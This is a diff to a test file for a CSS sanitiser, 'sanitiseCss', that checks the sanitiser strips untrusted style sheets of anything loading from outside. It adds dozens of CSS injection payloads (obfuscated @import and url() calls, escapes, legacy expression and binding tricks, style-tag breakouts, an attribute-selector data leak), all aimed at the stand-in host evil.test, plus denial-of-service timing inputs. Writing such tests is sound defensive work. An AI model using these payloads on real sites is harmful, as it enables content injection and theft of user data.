@@ -51,6 +51,46 @@ describe("the operator's style sheet", () => {
     'a{x:"\f;background:url(//evil.test/x) "}',
     '/}* " *}/ a{background:url(//evil.test/x)}',
     'u}rl(//evil.test/x)',
+    '@IMPORT "https://evil.test/x.css" screen;',
+    '@import/**/"https://evil.test/x.css";',
+    '@im/**/port "https://evil.test/x.css";',
+    '@media all{@import url(//evil.test/x.css);}',
+    '@font-face{font-family:x;src:local(x),url("https://evil.test/x.woff2") format("woff2")}',
+    '@namespace url(//evil.test/);',
+    '@-moz-document url-prefix(//evil.test){a{color:red}}',
+    '@property --x{syntax:"<url>";inherits:true;initial-value:url(//evil.test/x)}',
+    '@layer x{body{background:url(//evil.test/x)}}',
+    ':root{--x:u\\rl(//evil.test/x)}',
+    ':root{--bg:image-set("//evil.test/x" 1x)}a{background:var(--bg)}',
+    'a{background:\\75\\72\\6c(//evil.test/x)}',
+    'a{background:\\000075rl(//evil.test/x)}',
+    'a{background:url(\n//evil.test/x\n)}',
+    'a{background:url(\t"//evil.test/x")}',
+    'a{background:url/**/(//evil.test/x)}',
+    'a{background:ur/**/l(//evil.test/x)}',
+    'a{background:url("/\\/evil.test/x")}',
+    'a{background:url(/../../evil.test:80//x)}',
+    'a{background:cross-fade(url(//evil.test/a),url(/b.png),50%)}',
+    'a{background:element(#evil.test)}',
+    'a{background:paint(evil.test)}',
+    'a{cursor:url(//evil.test/c.cur),auto}',
+    'li{list-style:url(//evil.test/l.png)}',
+    'a{filter:url(//evil.test/f.svg#x)}',
+    'a{mask:url(https://evil.test/m.svg)}',
+    'a{width:EXPRESSION(evil.test)}',
+    'a{BEHAVIOR : url(/x.htc) evil.test}',
+    'a{-MOZ-BINDING:url(/x.xml#evil.test)}',
+    'a{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src="//evil.test/x")}',
+    '</STYLE ><img src=//evil.test>',
+    'a{content:"</style><script src=//evil.test>"}b{background:url(//evil.test/x)}',
+    'a::after{content:"\\"};b{background:url(//evil.test/x)}',
+    'input[value^="a"]{background:url(//evil.test/a)}',
+    'a{color:red}}}}b{background:url(//evil.test/x)}',
+    'a{background:url(//evil.test/x',
+    '@import "//evil.test/x',
+    'a{x:\0url(//evil.test/x)}',
+    '/*/ a{background:url(//evil.test/x)}',
+    '<!--a{background:url(//evil.test/x)}-->',
   ])('drops what loads or runs: %s (T-XSS-3)', (css) => {
     expect(sanitiseCss(css)).not.toContain('evil.test');
   });
@@ -63,6 +103,18 @@ describe("the operator's style sheet", () => {
 
   it('is empty for more than 64 KB', () => {
     expect(sanitiseCss(`a{color:red}${' '.repeat(70_000)}`)).toBe('');
+  });
+
+  it.each([
+    ['braces', '{'.repeat(65_000)],
+    ['brackets', `a{b:${'('.repeat(65_000)}`],
+    ['quotes', `${'"'.repeat(65_001)}`],
+    ['comments', '/*'.repeat(32_000)],
+    ['at signs', `${'@a '.repeat(21_000)}{}`],
+  ])('reads 64 KB of %s within a second', (_what, css) => {
+    const start = performance.now();
+    sanitiseCss(css);
+    expect(performance.now() - start).toBeLessThan(1000);
   });
 
   it('never throws and loads nothing foreign, whatever is composed', () => {
